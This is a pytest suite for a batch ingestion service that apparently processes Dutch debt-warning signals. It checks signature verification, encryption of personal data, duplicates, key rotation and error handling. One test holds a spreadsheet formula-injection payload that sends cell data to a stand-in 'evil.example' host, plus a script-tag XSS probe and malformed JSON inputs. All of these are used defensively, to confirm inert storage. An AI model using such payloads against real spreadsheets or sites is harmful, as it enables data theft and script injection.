"""The batch path end to end on a real database: openssl-made batches in, signals out."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path

import pytest
from sqlalchemy import func, select

from signals.crypto import DataProtector, DecryptionError
from signals.db import unit_of_work
from signals.enums import BatchSource, SignalStatus, WindowFlag
from signals.ingest import CONTACT_CONTEXT, IDENTITY_CONTEXT
from signals.jobs import ingest_file
from signals.models import Batch, BatchPayload, Client, Rejection, Signal
from signals.runtime import Runtime
from tests.factories import TODAY, World, csv_bytes, openssl_batch, row


def _ingest(world: World, plaintext: bytes, name: str = "batch.csv.p7m", **kw: object) -> dict:
    path, sig = openssl_batch(world, plaintext, name=name, **kw)  # type: ignore[arg-type]
    return ingest_file(world.runtime, world.partner_id, path, sig, BatchSource.CLI).report


def _count(runtime: Runtime, model: type) -> int:
    with unit_of_work(runtime.sessions) as session:
        return int(session.scalar(select(func.count()).select_from(model)) or 0)


def test_valid_batch_is_stored_with_flags(world: World) -> None:
    rows = [
        row(),
        row(
            signaal_id="S-2",
            bsn="",
            ontstaansdatum=(TODAY - dt.timedelta(days=10)).isoformat(),
            crisissignaal="ja",
            ontruimingsdatum=(TODAY + dt.timedelta(days=20)).isoformat(),
        ),
        row(signaal_id="S-3", bsn="123456789"),
    ]
    report = _ingest(world, csv_bytes(rows))
    assert report["status"] == "processed"
    assert (report["rows_total"], report["rows_accepted"], report["rows_rejected"]) == (3, 2, 1)
    assert report["rejections"] == [{"row": 3, "field": "bsn", "code": "bsn_checksum"}]
    assert report["rows_outside_window"] == 1
    with unit_of_work(world.runtime.sessions) as session:
        signals = {s.signal_ref: s for s in session.scalars(select(Signal))}
        first, second = signals["S-1"], signals["S-2"]
        assert first.status is SignalStatus.NOG_NIET_OPGEPAKT
        assert first.window_flag is WindowFlag.INSIDE
        assert second.window_flag is WindowFlag.TOO_EARLY  # accepted and flagged, never dropped
        assert second.crisis and second.eviction_date is not None
        assert str(first.amount) == "1450.75"
        assert first.postcode_area == "3511"
        assert first.bsn_hash and second.bsn_hash is None
        # Same address, different person: one household hash, two clients.
        assert first.address_hash == second.address_hash
        assert first.client_id != second.client_id
        identity = world.runtime.protector.decrypt_json(first.client.identity, IDENTITY_CONTEXT)
        assert identity == {
            "bsn": "111222333",
            "voorletters": "J.",
            "tussenvoegsel": "de",
            "achternaam": "Vries",
            "geboortedatum": "1990-04-12",
        }
        contact = world.runtime.protector.decrypt_json(first.contact, CONTACT_CONTEXT)
        assert contact["postcode"] == "3511AB"


def test_personal_data_is_not_readable_without_the_data_key(world: World, backend: str) -> None:
    bsns = ["111222333", "123456782", "012345611"]
    rows = [
        row(
            signaal_id=f"S-{i}",
            bsn=b,
            telefoon="0612345678",
            email="a.b@example.nl",
            achternaam="Vermeulen-Ozturk",
        )
        for i, b in enumerate(bsns)
    ]
    assert _ingest(world, csv_bytes(rows))["rows_accepted"] == 3
    with unit_of_work(world.runtime.sessions) as session:
        blobs = b"".join(
            bytes(c.identity) + (c.bsn_hash or "").encode() for c in session.scalars(select(Client))
        ) + b"".join(
            bytes(s.contact) + (s.bsn_hash or "").encode() for s in session.scalars(select(Signal))
        )
    for secret in [*bsns, "0612345678", "a.b@example.nl", "1990-04-12", "Vermeulen"]:
        assert secret.encode() not in blobs
    if backend == "sqlite":
        # The stolen database file: no BSN, phone or e-mail in any page of it.
        world.runtime.engine.dispose()
        path = Path(world.runtime.engine.url.database or "")
        raw = b"".join(p.read_bytes() for p in path.parent.glob(path.name + "*"))
        for secret in [*bsns, "0612345678", "a.b@example.nl"]:
            assert secret.encode() not in raw
    # Another data key opens nothing.
    other = DataProtector(b"x" * 32)
    with unit_of_work(world.runtime.sessions) as session:
        client = session.scalars(select(Client)).first()
    assert client is not None
    with pytest.raises(DecryptionError):
        other.decrypt(client.identity, IDENTITY_CONTEXT)


def test_duplicate_signal_within_and_across_batches(world: World) -> None:
    first = _ingest(world, csv_bytes([row(), row(signaal_id="S-2"), row(signaal_id="S-2")]))
    assert first["rejections"] == [{"row": 3, "field": "signaal_id", "code": "duplicate_signal"}]
    second = _ingest(world, csv_bytes([row(signaal_id="S-3"), row(signaal_id="S-1")]), "b2.p7m")
    assert second["rows_accepted"] == 1
    assert second["rejections"] == [{"row": 2, "field": "signaal_id", "code": "duplicate_signal"}]
    # Another partner may use the same reference.
    other_id, _ = world.add_partner("Energie Test")
    path, sig = openssl_batch(world, csv_bytes([row()]), name="b3.p7m", key="rsa2")
    report = ingest_file(world.runtime, other_id, path, sig, BatchSource.CLI).report
    assert report["rows_accepted"] == 1


def test_identical_file_again_returns_the_first_batch(world: World) -> None:
    path, sig = openssl_batch(world, csv_bytes([row(), row(signaal_id="S-2")]))
    first = ingest_file(world.runtime, world.partner_id, path, sig, BatchSource.CLI).report
    again = ingest_file(world.runtime, world.partner_id, path, sig, BatchSource.CLI).report
    assert again["id"] == first["id"]
    assert again["rows_accepted"] == 2
    assert _count(world.runtime, Batch) == 1
    assert _count(world.runtime, Signal) == 2


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("not_cms", "not_cms"),
        ("other_cert", "decrypt_failed"),
        ("truncated", "decrypt_failed"),
        ("latin1", "encoding"),
        ("empty_file", "empty"),
        ("header_only", "empty"),
        ("missing", "missing_columns"),
        ("dup_header", "duplicate_columns"),
    ],
)
def test_batch_refusals_store_nothing_but_the_refusal(world: World, name: str, code: str) -> None:
    good = csv_bytes([row(), row(signaal_id="S-2")])
    path = world.dir / f"{name}.p7m"
    if name == "not_cms":
        path.write_bytes(good)
    elif name == "empty_file":
        path.write_bytes(b"")
    else:
        plaintext = {
            "other_cert": good,
            "truncated": good * 20,
            "latin1": good + "S-3;Müller\n".encode("latin-1"),
            "header_only": good.splitlines()[0] + b"\n",
            "missing": b"signaal_id;bedrag\nS-1;12\n",
            "dup_header": good.replace(b"achternaam", b"bedrag", 1),
        }[name]
        recipient = "other.pem" if name == "other_cert" else "recipient.pem"
        path, _ = openssl_batch(world, plaintext, name=path.name, recipient=recipient)
        if name == "truncated":
            path.write_bytes(path.read_bytes()[:-100])
    from tests.factories import openssl_sign

    sig = openssl_sign(path, world.files["rsa.key"])
    report = ingest_file(world.runtime, world.partner_id, path, sig, BatchSource.CLI).report
    assert report["status"] == "failed"
    assert report["code"] == code
    assert report["rows_accepted"] == 0
    assert _count(world.runtime, Signal) == 0
    assert _count(world.runtime, Client) == 0
    assert _count(world.runtime, Rejection) == 0
    assert _count(world.runtime, Batch) == 1
    # The partner fixes the file and sends it again: it goes through.
    fixed, fixed_sig = openssl_batch(world, good, name="fixed.p7m")
    assert (
        ingest_file(world.runtime, world.partner_id, fixed, fixed_sig, BatchSource.CLI).report[
            "rows_accepted"
        ]
        == 2
    )


@pytest.mark.parametrize("problem", ["tampered", "missing", "other_partner_key"])
def test_bad_signature_refused_before_decryption(
    world: World, problem: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("decryption was attempted before the signature checked out")

    monkeypatch.setattr("signals.ingest.decrypt_stream", never)
    monkeypatch.setattr("signals.envelope.decrypt_stream", never)
    path, sig = openssl_batch(
        world, csv_bytes([row()]), key="rsa2" if problem == "other_partner_key" else "rsa"
    )
    if problem == "tampered":
        data = bytearray(path.read_bytes())
        data[len(data) // 2] ^= 0x01
        path.write_bytes(bytes(data))
    report = ingest_file(
        world.runtime,
        world.partner_id,
        path,
        None if problem == "missing" else sig,
        BatchSource.CLI,
    ).report
    assert (report["status"], report["code"]) == ("failed", "signature_invalid")
    with unit_of_work(world.runtime.sessions) as session:
        assert session.scalar(select(func.count()).select_from(BatchPayload)) == 0
        assert session.scalar(select(func.count()).select_from(Signal)) == 0


def test_revoked_key_no_longer_signs(world: World) -> None:
    from signals.models import PartnerKey
    from signals.service import revoke_partner_key

    with unit_of_work(world.runtime.sessions) as session:
        key = session.scalars(select(PartnerKey)).one()
        revoke_partner_key(session, key)
    report = _ingest(world, csv_bytes([row()]))
    assert report["code"] == "signature_invalid"


@pytest.mark.parametrize("kind", ["ec", "ed25519", "pss"])
def test_every_signature_kind_is_accepted(world: World, kind: str) -> None:
    from signals.enums import PartnerType

    key = {"ec": "ec", "ed25519": "ed25519", "pss": "rsa"}[kind]
    partner_id = world.partner_id
    if key != "rsa":
        partner_id, _ = world.add_partner(f"Partner {kind}", PartnerType.ENERGIE, key)
    path, _ = openssl_batch(world, csv_bytes([row()]), key=key)
    from tests.factories import openssl_sign

    sig = openssl_sign(path, world.files[f"{key}.key"], {"ec": "ecdsa"}.get(kind, kind))
    report = ingest_file(world.runtime, partner_id, path, sig, BatchSource.CLI).report
    assert report["status"] == "processed", report


def test_injection_is_stored_inertly_and_never_echoed(world: World) -> None:
    nasty = '=HYPERLINK("http://evil.example/?q="&A1,"klik")'
    script = "<script>alert(1)</script>"
    report = _ingest(
        world,
        csv_bytes(
            [
                row(achternaam=nasty, straat=script),
                row(signaal_id="S-2", bsn="123456789", achternaam=script),
            ]
        ),
    )
    assert report["rows_accepted"] == 1
    assert nasty not in json.dumps(report) and "script" not in json.dumps(report)
    with unit_of_work(world.runtime.sessions) as session:
        signal = session.scalars(select(Signal)).one()
        identity = world.runtime.protector.decrypt_json(signal.client.identity, IDENTITY_CONTEXT)
        contact = world.runtime.protector.decrypt_json(signal.contact, CONTACT_CONTEXT)
    assert identity["achternaam"] == nasty  # kept verbatim: what the partner sent
    assert contact["straat"] == script


def test_ten_thousand_characters_in_a_field(world: World) -> None:
    report = _ingest(world, csv_bytes([row(achternaam="x" * 10_000), row(signaal_id="S-2")]))
    assert report["rows_accepted"] == 1
    assert report["rejections"] == [{"row": 1, "field": "achternaam", "code": "too_long"}]


def test_jsonl_batch(world: World) -> None:
    lines = [
        json.dumps(row()),
        json.dumps({**row(signaal_id="S-2"), "bedrag": 99.5, "onbekend": 1}),
    ]
    report = _ingest(world, "\n".join(lines).encode())
    assert report["rows_accepted"] == 2
    assert report["unknown_columns"] == ["onbekend"]


def test_unknown_gemeente_in_a_row(world: World) -> None:
    report = _ingest(
        world, csv_bytes([row(gemeentecode="0363"), row(signaal_id="S-2", gemeentecode="0344")])
    )
    assert report["rejections"] == [{"row": 1, "field": "gemeentecode", "code": "unknown_gemeente"}]


def test_large_batch_over_several_chunks(world: World) -> None:
    from tests.factories import synthetic_csv

    data = synthetic_csv(5000)
    runtime = Runtime(
        world.runtime.settings.model_copy(update={"ingest_chunk_rows": 700}), world.runtime.engine
    )
    path, sig = openssl_batch(world, data)
    report = ingest_file(runtime, world.partner_id, path, sig, BatchSource.CLI).report
    assert report["rows_total"] == 5000
    assert report["rows_accepted"] + report["rows_rejected"] == 5000
    assert report["rows_accepted"] > 4900
    assert _count(world.runtime, Signal) == report["rows_accepted"]


def test_oversized_file_is_refused_without_reading(world: World) -> None:
    runtime = Runtime(
        world.runtime.settings.model_copy(update={"max_batch_bytes": 1000}), world.runtime.engine
    )
    big = world.dir / "big.p7m"
    with big.open("wb") as handle:
        handle.truncate(100 * 1024 * 1024)  # 100 MB, sparse: never read
    result = ingest_file(runtime, world.partner_id, big, None, BatchSource.CLI)
    assert result.report["code"] == "too_large"
    assert _count(world.runtime, Batch) == 0


def test_two_active_recipient_keys_during_rotation(world: World, tmp_path: Path) -> None:
    """After a new key is made, batches to the old and the new certificate both go through;
    once the old key is retired, only the new one does."""
    from signals.models import Municipality, RecipientKey
    from signals.service import create_recipient_key, retire_recipient_key

    with unit_of_work(world.runtime.sessions) as session:
        municipality = session.get(Municipality, world.municipality_id)
        new = create_recipient_key(session, world.runtime.protector, municipality)
        new_pem = new.certificate_pem.encode()
    world.files["new.pem"] = tmp_path / "new.pem"
    world.files["new.pem"].write_bytes(new_pem)
    assert _ingest(world, csv_bytes([row()]), "old.p7m")["status"] == "processed"
    assert (
        _ingest(world, csv_bytes([row(signaal_id="S-2")]), "new.p7m", recipient="new.pem")["status"]
        == "processed"
    )
    with unit_of_work(world.runtime.sessions) as session:
        old = session.scalars(select(RecipientKey).where(RecipientKey.id != new.id)).one()
        retire_recipient_key(session, old)
    late = _ingest(world, csv_bytes([row(signaal_id="S-3")]), "late.p7m")
    assert late["code"] == "decrypt_failed"


def test_pem_batch_with_either_label(world: World) -> None:
    path, sig = openssl_batch(world, csv_bytes([row()]), pem=True)
    path.write_bytes(path.read_bytes().replace(b"CMS-----", b"PKCS7-----"))
    from tests.factories import openssl_sign

    sig = openssl_sign(path, world.files["rsa.key"])
    report = ingest_file(world.runtime, world.partner_id, path, sig, BatchSource.CLI).report
    assert report["status"] == "processed" and report["rows_accepted"] == 1


@pytest.mark.parametrize(
    ("content", "field", "code"),
    [
        ("nul", "signaal_id", "invalid_value"),
        ("surrogate", "achternaam", "invalid_value"),
        ("deep_json", "_row", "invalid_value"),
        ("nested_value", "achternaam", "invalid_value"),
    ],
)
def test_hostile_values_are_row_refusals_not_crashes(
    world: World, content: str, field: str, code: str
) -> None:
    good = json.dumps(row(signaal_id="S-OK"))
    bad = {
        "nul": json.dumps(row(signaal_id="S\x00-1")),
        "surrogate": json.dumps(row()).replace('"Vries"', '"\\ud800x"'),
        "deep_json": '{"x":' + "[" * 100_000 + "]" * 100_000 + "}",
        "nested_value": json.dumps({**row(), "achternaam": {"a": 1}}),
    }[content]
    report = _ingest(world, (bad + "\n" + good).encode())
    assert report["status"] == "processed"
    assert report["rows_accepted"] == 1
    assert report["rejections"] == [{"row": 1, "field": field, "code": code}]


def test_unexpected_error_is_retried_then_refused(
    world: World, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """A fault of ours: tried batch_max_attempts times, then `processing_error`, no data kept."""
    import signals.ingest

    calls = []

    def broken(self: object, chunk: list) -> None:
        calls.append(1)
        raise RuntimeError("Vries 111222333")  # a message that must never reach the log

    monkeypatch.setattr(signals.ingest._BatchWriter, "write", broken)
    report = _ingest(world, csv_bytes([row()]))
    assert (report["status"], report["code"]) == ("failed", "processing_error")
    assert len(calls) == world.runtime.settings.batch_max_attempts
    assert _count(world.runtime, Signal) == 0
    assert "111222333" not in caplog.text and "RuntimeError" in caplog.text


def test_a_worker_that_lost_its_claim_cannot_finish(world: World) -> None:
    from signals.enums import BatchCode
    from signals.ingest import LostClaim, claim_batch, fail_batch, process_batch

    path, sig = openssl_batch(world, csv_bytes([row()]))
    runtime = world.runtime
    batch_id = world.receive(path, sig)
    with unit_of_work(runtime.sessions) as session:
        first = claim_batch(session, batch_id, lease_seconds=1)
    assert first is not None
    with unit_of_work(runtime.sessions) as session:  # still within the lease: no second claim
        assert claim_batch(session, batch_id, lease_seconds=3600) is None
    with unit_of_work(runtime.sessions) as session:  # the lease ran out: taken over
        second = claim_batch(session, batch_id, lease_seconds=0)
    assert second is not None and second.attempts == 2
    with pytest.raises(LostClaim), unit_of_work(runtime.sessions) as session:
        process_batch(session, runtime.settings, runtime.protector, batch_id, first.token)
    with pytest.raises(LostClaim), unit_of_work(runtime.sessions) as session:
        fail_batch(session, batch_id, BatchCode.ENCODING, first.token)
    assert _count(runtime, Signal) == 0
    with unit_of_work(runtime.sessions) as session:
        process_batch(session, runtime.settings, runtime.protector, batch_id, second.token)
    assert _count(runtime, Signal) == 1
